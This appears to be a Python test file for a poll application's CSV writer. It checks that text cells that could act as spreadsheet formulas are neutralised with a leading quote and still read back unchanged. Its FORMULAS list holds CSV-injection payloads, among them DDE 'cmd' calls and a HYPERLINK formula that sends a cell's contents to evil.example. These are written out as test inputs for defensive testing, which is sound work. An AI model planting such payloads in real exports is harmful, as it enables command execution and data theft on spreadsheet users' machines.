"""Row 26: no cell of a CSV file is a formula, and every text reads back as it was."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from polls.csv_cells import Value, cell, line, plain

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"Lunch")',
    "+1",
    "-1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "\n=1",
    "\ttext",
    "\rtext",
    " =1",
    "'=1",
    "''=1",
    "' =1",
    "\ufeff=1",
    "\u200b=1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
]
HARMLESS = ["", "Pizza", "1=1", "a-b", "'s-Hertogenbosch", "''", "'", " ", "bob@x", "ä", "\\=1"]


def read(text: str) -> list[list[str]]:
    """Read a CSV file as other programs do."""
    return list(csv.reader(io.StringIO(text, newline="")))


def is_run(text: str) -> bool:
    """Whether a spreadsheet would run a cell: by the six beginnings of the rule, blanks dropped."""
    return text.lstrip(" \u200b\ufeff")[:1] in set("=+-@\t\r")


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_row_26_text_that_could_be_a_formula_is_quoted_and_reads_back(text: str) -> None:
    [[before, found, number]] = read(line(["x", text, -5]))
    assert (before, number) == ("x", "-5")
    assert found == f"'{text}"
    assert not is_run(found)
    assert plain(found) == text


@pytest.mark.parametrize("text", HARMLESS, ids=ascii)
def test_row_26_any_other_text_is_kept(text: str) -> None:
    assert (cell(text), plain(cell(text))) == (text, text)


def test_row_26_control_without_the_quote_a_cell_is_run() -> None:
    written = io.StringIO()
    csv.writer(written).writerow(["=1+1"])
    assert is_run(read(written.getvalue())[0][0])


@pytest.mark.parametrize(
    ("value", "written"), [(None, ""), (0, "0"), (-5, "-5"), (0.625, "0.625"), (True, "True")]
)
def test_row_26_numbers_stay_numbers(value: Value, written: str) -> None:
    assert cell(value) == written


TEXTS = st.text(st.characters(exclude_categories=["Cs"]), max_size=20)
RISKY = st.text(st.sampled_from("=+-@\t\r\n' \",;a1\ufeff\uff1d"), max_size=8)


@given(st.lists(TEXTS | RISKY, min_size=1, max_size=5))
def test_row_26_whatever_is_written_reads_back_and_runs_nowhere(texts: list[str]) -> None:
    [found] = read(line(texts))
    assert [plain(one) for one in found] == texts
    assert not any(is_run(one) for one in found)
